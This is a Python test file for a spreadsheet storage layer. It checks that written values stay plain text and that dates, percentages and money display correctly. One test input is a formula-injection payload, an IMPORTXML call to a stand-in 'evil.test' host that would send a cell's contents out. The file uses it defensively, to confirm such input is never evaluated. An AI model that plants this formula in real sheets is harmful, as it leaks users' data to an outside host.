"""What is written into cells: text as text, and numbers that people see for what they are."""

import datetime as dt

import pytest

from tests.storage.a_store import a_call
from tests.storage.sheets.conftest import Serve
from tests.storage.sheets.served import Served, workbook

HEADER = ["ID", "Held on", "Customer", "Person", "Notes"]


def calls(serve: Serve, fault: str = "") -> Served:
    return serve({"Calls": [HEADER, ["c0", "2026-11-01", "Bolt"]]}, fault=fault)


@pytest.mark.parametrize(
    "text",
    [
        '=IMPORTXML("http://evil.test?"&A1,"//x")',
        "+1",
        "-1",
        "@x",
        "'x",
        "007",
        "1e5",
        "3/4",
        "TRUE",
    ],
)
def test_text_stays_text_and_is_never_parsed(serve: Serve, text: str) -> None:
    served = calls(serve)
    served.store().append({"Calls": [a_call(id=text, customer=text, notes=text, Mood=text)]})
    cells = [served.control.cell(served.key, f"Calls!{column}3") for column in "ACEF"]
    assert [cell["userEnteredValue"] for cell in cells] == [{"stringValue": text}] * 4
    row = workbook(served.store())["Calls"].loc[3]
    assert (row["id"], row["customer"], row["notes"]) == (text, text, text)


def test_people_see_days_shares_and_money_as_such(serve: Serve) -> None:
    served = serve()
    at = dt.datetime(2026, 11, 23, 9, 30, tzinfo=dt.UTC)
    served.store().append(
        {
            "Decisions": [{"id": "d1", "decided_at": at, "decision": "Go", "due_on": "2026-12-01"}],
            "Roadmap": [
                {"id": "r1", "item": "Speed", "confidence": "85%", "reach": 1200},
                {"id": "r2", "item": "Depth", "confidence": 12.5, "actual_annual_value": "€12.5"},
            ],
        }
    )  # fmt: skip
    header, row = served.sees("Decisions", "FORMATTED_VALUE")
    shown = dict(zip(header, row, strict=False))
    assert (shown["Decided at"], shown["Due on"]) == ("2026-11-23 09:30:00Z", "2026-12-01")
    header, *rows = served.sees("Roadmap", "FORMATTED_VALUE")
    first, second = (dict(zip(header, row, strict=False)) for row in rows)
    assert (first["Confidence"], first["Reach"]) == ("85%", "1200")
    assert (second["Confidence"], second["Actual annual value"]) == ("12.5%", "12.5")
    stored = dict(zip(header, served.sees("Roadmap")[1], strict=False))
    assert (stored["Confidence"], stored["Reach"]) == (0.85, 1200)


def test_a_level_below_people_s_percentages_does_not_turn_into_one(serve: Serve) -> None:
    header = ["ID", "Asked on", "Customer", "Capability", "Level", "Answer"]
    served = serve({"Trade-offs": [header]}, is_typed=True)
    served.control.set_format(served.key, "Trade-offs!E2:E10", "PERCENT")
    answer = {"asked_on": "2026-11-02", "customer": "A", "capability": "Speed", "answer": "no"}
    served.store().append({"Trade-offs": [{"id": "t1", "level": 0.5, **answer}]})
    assert workbook(served.store())["Trade-offs"]["level"].loc[2] == 0.5


@pytest.mark.parametrize("day", ["1950-01-01", "2150-12-31"])
def test_a_day_that_no_serial_number_is_read_for_is_written_as_text(serve: Serve, day: str) -> None:
    served = calls(serve)
    served.store().append({"Calls": [a_call(held_on=day)]})
    assert served.sees("Calls!B3") == [[day]]
    assert str(workbook(served.store())["Calls"]["held_on"].loc[3].date()) == day
